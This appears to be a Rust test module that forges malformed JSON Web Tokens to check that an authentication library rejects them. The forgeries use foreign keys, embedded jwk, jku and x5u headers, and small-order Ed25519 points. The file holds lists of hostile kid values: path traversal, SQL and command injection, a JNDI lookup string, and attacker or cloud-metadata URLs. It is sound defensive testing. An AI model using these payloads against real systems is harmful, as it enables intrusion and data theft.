//! Keys that are not ours, and headers that bring or name their own.

use actors_core::auth::access;
use actors_core::auth::keys::{Keys, Signer};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use super::members::{Members, quoted};
use super::{Class, Forger, class, encoded};

pub(super) const CLASSES: &[Class] = &[
    class("another key under our key's name", |f| {
        let (header, thief) = (f.header(), thief(f));
        signed(f, &thief, &header)
    }),
    class("another key under its own name", |f| {
        let (mut header, thief) = (f.header(), thief(f));
        header.set("kid", quoted(&thief.public().id));
        signed(f, &thief, &header)
    }),
    class("a token of another deployment", |f| {
        let other = Keys::derive(&f.random());
        let claims = f.one(&f.bases.clone());
        access::issue(&other.signer(claims.issued_at), &claims)
    }),
    class("jwk in the header, signed by it", |f| {
        let thief = thief(f);
        let jwk = jwk(&thief.public().key);
        brought(f, &thief, "jwk", jwk)
    }),
    class("jwk in the header, well signed", |f| {
        let jwk = jwk(f.public_key());
        f.with_header(|header| header.add("jwk", jwk))
    }),
    class("jwk of small order, with the signature that it takes", |f| {
        let point = f.one(super::signatures::SMALL_ORDER);
        let mut header = f.header();
        header.add("jwk", jwk(&point));
        let message = format!("{}.{}", encoded(header.text()), encoded(f.claims().text()));
        let signature = [super::signatures::IDENTITY, [0; 32]].concat();
        format!("{message}.{}", encoded(signature))
    }),
    class("jku in the header, signed by its key", |f| {
        let (thief, url) = (thief(f), url(f));
        brought(f, &thief, "jku", url)
    }),
    class("jku in the header, well signed", |f| {
        let url = url(f);
        f.with_header(|header| header.add("jku", url))
    }),
    class("x5u in the header, signed by its key", |f| {
        let (thief, url) = (thief(f), url(f));
        brought(f, &thief, "x5u", url)
    }),
    class("x5u in the header, well signed", |f| {
        let url = url(f);
        f.with_header(|header| header.add("x5u", url))
    }),
    class("x5c in the header, signed by its key", |f| {
        let thief = thief(f);
        let chain = chain(f);
        brought(f, &thief, "x5c", chain)
    }),
    class("x5c in the header, well signed", |f| {
        let chain = chain(f);
        f.with_header(|header| header.add("x5c", chain))
    }),
    class("x5t in the header, well signed", |f| {
        let name = f.one(&["x5t", "x5t#S256"]);
        let hash = encoded(f.random::<32>());
        f.with_header(|header| header.add(name, quoted(&hash)))
    }),
    class("kid that is a path", |f| kid(f, PATHS)),
    class("kid that is SQL", |f| kid(f, SQL)),
    class("kid that is a command or a template", |f| kid(f, COMMANDS)),
    class("kid that is a URL", |f| {
        let url = url(f);
        f.with_header(|header| header.set("kid", url))
    }),
    class("kid empty", |f| kid(f, &["", " ", "\0", "\u{feff}"])),
    class("kid missing", |f| f.with_header(|header| header.remove("kid"))),
    class("kid unknown", |f| {
        let kid = hex::encode(f.random::<8>());
        f.with_header(|header| header.set("kid", quoted(&kid)))
    }),
    class("kid of another key that is known", |f| {
        let mut known = f.known.clone();
        known.push(hex::encode(f.random::<8>()));
        let kid = f.one(&known);
        f.with_header(|header| header.set("kid", quoted(&kid)))
    }),
    class("kid very long", |f| {
        let length = usize::try_from(f.between(1_000, 60_000)).expect("small");
        let kid = f.kid().repeat(length / f.kid().len());
        f.with_header(|header| header.set("kid", quoted(&kid)))
    }),
    class("kid almost ours", |f| {
        let kid = f.kid().to_owned();
        let (begin, end) = (kid[..kid.len() - 1].to_owned(), kid[1..].to_owned());
        let almost = f.one(&[
            kid.to_uppercase(),
            format!(" {kid}"),
            format!("{kid} "),
            format!("{kid}\0"),
            format!("{kid}\n"),
            format!("0x{kid}"),
            format!("{kid}{kid}"),
            format!("./{kid}"),
            begin,
            end,
        ]);
        f.with_header(|header| header.set("kid", quoted(&almost)))
    }),
    class("kid of another JSON type", |f| {
        let own = quoted(f.kid());
        let other = f.one(&[
            "null".to_owned(),
            "0".to_owned(),
            "true".to_owned(),
            format!("[{own}]"),
            format!("{{\"kid\":{own}}}"),
        ]);
        f.with_header(|header| header.set("kid", other))
    }),
];

const PATHS: &[&str] = &[
    "../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "..\\..\\windows\\win.ini",
    "file:///dev/null",
    "%2e%2e%2fdev%2fnull",
    "root.key",
    "./data/root.key\0.pem",
];

const SQL: &[&str] = &[
    "' OR '1'='1",
    "x' UNION SELECT 'AA' -- ",
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "1) OR (1=1",
    "*",
    "%",
];

const COMMANDS: &[&str] =
    &["| sleep 5", "$(id)", "`id`", "; id", "{{7*7}}", "${jndi:ldap://203.0.113.9/a}", "%s%n"];

/// Somebody with a key of their own.
fn thief(f: &mut Forger) -> Signer {
    Signer::from_seed(&f.random())
}

/// The base's claims under this header, signed by this key.
fn signed(f: &Forger, signer: &Signer, header: &Members) -> String {
    let message = format!("{}.{}", encoded(header.text()), encoded(f.claims().text()));
    let signature = signer.sign(&message);
    format!("{message}.{signature}")
}

/// A header that brings the thief's key in this member, signed by it; under our key's name or
/// the thief's.
fn brought(f: &mut Forger, thief: &Signer, member: &str, value: String) -> String {
    let mut header = f.header();
    header.add(member, value);
    let names = [f.kid().to_owned(), thief.public().id.clone()];
    let name = f.one(&names);
    header.set("kid", quoted(&name));
    signed(f, thief, &header)
}

fn jwk(public_key: &[u8]) -> String {
    json!({ "kty": "OKP", "crv": "Ed25519", "x": encoded(public_key), "use": "sig" }).to_string()
}

fn url(f: &mut Forger) -> String {
    quoted(f.one(&[
        "https://evil.example/keys.json",
        "http://localhost:8080/keys.json",
        "http://localhost:8080@evil.example/keys.json",
        "http://169.254.169.254/latest/meta-data",
        "data:application/json,{\"keys\":[]}",
        "file:///dev/null",
        "//evil.example",
    ]))
}

/// A chain of one certificate that is none: nobody is to look at it.
fn chain(f: &mut Forger) -> String {
    json!([STANDARD.encode(f.random::<96>())]).to_string()
}

fn kid(f: &mut Forger, of: &[&str]) -> String {
    let kid = quoted(f.one(of));
    f.with_header(|header| header.set("kid", kid))
}
